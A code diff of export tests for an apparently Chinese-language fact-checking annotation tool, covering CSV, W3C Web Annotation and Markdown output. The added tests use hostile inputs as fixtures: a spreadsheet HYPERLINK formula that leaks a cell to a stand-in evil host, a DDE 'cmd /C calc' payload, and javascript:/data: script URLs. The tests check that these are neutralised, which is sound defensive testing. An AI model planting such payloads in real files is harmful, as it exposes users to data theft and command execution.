@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ProjectStore } from '../project/store';
-import { EDITOR, tempDir } from '../project/testing/fixtures';
-import { importW3C } from '../../shared/export/w3c';
+import { tempDir } from '../project/testing/fixtures';
+import { csvCell } from '../../shared/export/csv';
 import { exportProject } from './index';
 import { SEED_CLAIMS, SEED_URL, seedProject } from './testing/seed-project';
 
@@ -50,61 +50,79 @@ function parseCsv(s: string): string[][] {
 }
 
 describe('the CSV export', () => {
-  it('opens with a BOM and reads back as one row per claim with quotes, commas and tags intact', async () => {
-    const csv = await text('csv');
-    expect(csv.charCodeAt(0)).toBe(0xfeff);
-    const [head, ...rows] = parseCsv(csv.slice(1));
-    expect(head).toEqual(['number', 'quote', 'tags', 'strength', 'verdict', 'status', 'note', 'evidence_urls', 'authors', 'created_at', 'updated_at']);
-    expect(rows).toHaveLength(SEED_CLAIMS.length);
-    const byQuote = new Map(rows.map((r) => [r[1], r]));
-    expect(byQuote.get('总参数量 389B,激活参数量 52B')!.slice(0, 9)).toEqual(['2', '总参数量 389B,激活参数量 52B', '数据', '4', '属实', '已核查', '与技术报告一致。', 'https://arxiv.org/abs/2411.02265', '编辑张']);
-    expect(byQuote.get('总参数量 389B,激活参数量 52B')![9]).toMatch(/^\d{4}-\d{2}-\d{2}T/);
-    expect(byQuote.get('仅排在了第 11 位,月访问量不到 200 万')![6]).toBe('榜单口径 "Web 端",不含 App。');
+  it('opens with a BOM and reads back as one row per claim, headers and values in Chinese, with the article and local times', async () => {
+    const tz = process.env.TZ;
+    process.env.TZ = 'Asia/Shanghai';
+    try {
+      const csv = await text('csv');
+      expect(csv.charCodeAt(0)).toBe(0xfeff);
+      const [head, ...rows] = parseCsv(csv.slice(1));
+      expect(head).toEqual(['编号', '文章', '论断原文', '标签', '证据强度', '核查结论', '核查状态', '批注', '证据链接', '核查人', '创建时间', '修改时间']);
+      expect(rows).toHaveLength(SEED_CLAIMS.length);
+      const byQuote = new Map(rows.map((r) => [r[2], r]));
+      const row = byQuote.get('总参数量 389B,激活参数量 52B')!;
+      expect(row.slice(0, 10)).toEqual(['2', '腾讯的AI困局', '总参数量 389B,激活参数量 52B', '数据', '4 确凿', '属实', '已核查', '与技术报告一致。', 'https://arxiv.org/abs/2411.02265', '编辑张']);
+      expect(row[10]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} \+08:00$/);
+      const claim = store.listClaims(store.listArticles()[0]!.id).find((c) => c.anchor.exact === '总参数量 389B,激活参数量 52B')!;
+      expect(Date.parse(row[10]!.replace(' ', 'T').replace(' ', ''))).toBe(Math.floor(Date.parse(claim.createdAt) / 1000) * 1000);
+      expect(byQuote.get('仅排在了第 11 位,月访问量不到 200 万')![7]).toBe('榜单口径 "Web 端",不含 App。');
+    } finally {
+      if (tz === undefined) delete process.env.TZ;
+      else process.env.TZ = tz;
+    }
   });
 
-  it('writes English labels when asked', async () => {
-    const rows = parseCsv((await text('csv', { lang: 'en' })).slice(1));
-    expect(rows.map((r) => r[4])).toContain('mostly true');
+  it('writes English headers and labels when asked', async () => {
+    const [head, ...rows] = parseCsv((await text('csv', { lang: 'en' })).slice(1));
+    expect(head!.slice(0, 3)).toEqual(['No.', 'Article', 'Claim']);
+    expect(rows.map((r) => r[5])).toContain('mostly true');
+    expect(rows.map((r) => r[4])).toContain('3 strong');
+  });
+
+  it('neutralises what a spreadsheet would run as a formula, in every column', async () => {
+    const path = tmp.file('公式.pizhu');
+    const formulas = await seedProject(path, [{ exact: '总参数量 389B', tag: '数据', verdict: 'false', strength: 1, note: '=HYPERLINK("https://evil.example/?leak="&A1,"点我")', evidenceUrl: '@SUM(1+1)' }]);
+    const articleId = formulas.listArticles()[0]!.id;
+    const [claim] = formulas.listClaims(articleId);
+    const tag = formulas.addTag({ name: '+cmd|\' /C calc\'!A0', color: '#888888' });
+    formulas.updateClaim(claim!.id, { tagIds: [tag.id] });
+    formulas.renameArticle(articleId, '-2+3 腾讯');
+    formulas.close();
+    const evil = ProjectStore.open(path, { author: { id: '0c7a6f0e-2d0b-4a53-9f11-6a1c2f0d9e21', name: '\t=1+1' }, lang: 'en' });
+    try {
+      evil.updateClaim(claim!.id, { status: 'needs-review' });
+      const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode((await exportProject(evil, { format: 'csv' })).bytes);
+      const [, row] = parseCsv(csv.slice(1));
+      expect(row![7]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"点我")`);
+      expect(row![3]).toBe(`'+cmd|' /C calc'!A0`);
+      expect(row![8]).toBe(`'@SUM(1+1)`);
+      expect(row![1]).toBe(`'-2+3 腾讯`);
+      expect(row![9]).toBe(`编辑张、\t=1+1`);
+      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      evil.close();
+    }
+  });
+
+  it('prefixes an apostrophe to each character OWASP lists, and to nothing else', () => {
+    expect(['=1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvCell)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\t=1", '"\'\r=1"']);
+    expect(['1-1', 'a=b', '总参数量 389B', ''].map(csvCell)).toEqual(['1-1', 'a=b', '总参数量 389B', '']);
   });
 });
 
 describe('the W3C Web Annotation export', () => {
-  it('is an AnnotationCollection whose annotations carry quote and position selectors, tags and notes', async () => {
+  it('is an AnnotationCollection whose annotations carry quote and position selectors over the revision, tags and notes', async () => {
     const json = JSON.parse(await text('w3c'));
     expect(json.type).toBe('AnnotationCollection');
     expect(json['@context'][0]).toBe('http://www.w3.org/ns/anno.jsonld');
     const first = json.first.items[1];
-    expect(first.target.source).toBe(SEED_URL);
+    expect(first.target.source['pizhu:sourceUrl']).toBe(SEED_URL);
     expect(first.target.selector.map((s: { type: string }) => s.type)).toEqual(['TextQuoteSelector', 'TextPositionSelector']);
     expect(first.body).toContainEqual({ type: 'TextualBody', purpose: 'tagging', value: '数据' });
     expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'commenting', value: '与技术报告一致。' }));
-    expect(first).toMatchObject({ 'pizhu:strength': 4, 'pizhu:verdict': 'true', 'pizhu:status': 'checked' });
-  });
-
-  it('round-trips: imported into an empty project with the same article, the claims come back the same', async () => {
-    const json = JSON.parse(await text('w3c'));
-    const article = store.getArticle(store.listArticles()[0]!.id);
-    const copy = ProjectStore.create(tmp.file('round-trip.pizhu'), { title: '副本', author: EDITOR });
-    try {
-      const target = copy.addArticle(article.content);
-      const tagId = new Map(copy.listTags().map((t) => [t.name, t.id]));
-      for (const c of importW3C(json)) {
-        expect(c.source).toBe(article.content.source.url);
-        copy.addClaim({ articleId: target.id, anchor: c.anchor, tagIds: c.tagNames.map((n) => tagId.get(n)!), note: { json: '', text: c.note }, strength: c.strength, verdict: c.verdict, status: c.status });
-      }
-      const shape = (s: ProjectStore, articleId: string) => {
-        const names = new Map(s.listTags().map((t) => [t.id, t.name]));
-        return s.listClaims(articleId).map((c) => ({ anchor: c.anchor, note: c.note.text, strength: c.strength, verdict: c.verdict, status: c.status, tags: c.tagIds.map((id) => names.get(id)) }));
-      };
-      const sort = <T extends { anchor: { start: number; end: number } }>(xs: T[]) => xs.sort((a, b) => a.anchor.start - b.anchor.start || a.anchor.end - b.anchor.end);
-      expect(sort(shape(copy, target.id))).toEqual(sort(shape(store, article.id)));
-    } finally {
-      copy.close();
-    }
-  });
-
-  it('refuses a document that is not an annotation collection', () => {
-    expect(() => importW3C({ type: 'Annotation' })).toThrow();
+    expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'assessing', 'pizhu:verdict': 'true' }));
+    expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'assessing', 'pizhu:strength': 4 }));
+    expect(first).toMatchObject({ 'pizhu:status': 'checked', creator: { type: 'Person', name: '编辑张' } });
   });
 });
 
@@ -132,5 +150,22 @@ describe('the Markdown export', () => {
     expect(md).toContain('### [2]\n\n> 总参数量 389B,激活参数量 52B');
     expect(md).toContain('- 核查结论: 属实');
     expect(md).toContain('](<https://arxiv.org/abs/2411.02265>)');
+  });
+
+  it('makes links only of http(s) and mailto addresses; a javascript: URL stays text', async () => {
+    const path = tmp.file('链接.pizhu');
+    const links = await seedProject(path, [{ exact: '总参数量 389B', tag: '数据', verdict: 'true', strength: 4, note: '', evidenceUrl: 'javascript:alert(document.cookie)' }]);
+    try {
+      const [claim] = links.listClaims(links.listArticles()[0]!.id);
+      links.addEvidence(claim!.id, { title: '写信问作者', url: 'mailto:author@example.com' });
+      links.addEvidence(claim!.id, { title: '图', url: 'data:text/html,<script>alert(1)</script>' });
+      const md = new TextDecoder().decode((await exportProject(links, { format: 'md' })).bytes);
+      expect(md).not.toMatch(/\]\(<?(javascript|data):/i);
+      expect(md).toContain('- 证据: 来源 (javascript:alert(document.cookie))');
+      expect(md).toContain('- 证据: [写信问作者](<mailto:author@example.com>)');
+      expect(md).toContain('\\<script\\>');
+    } finally {
+      links.close();
+    }
   });
 });
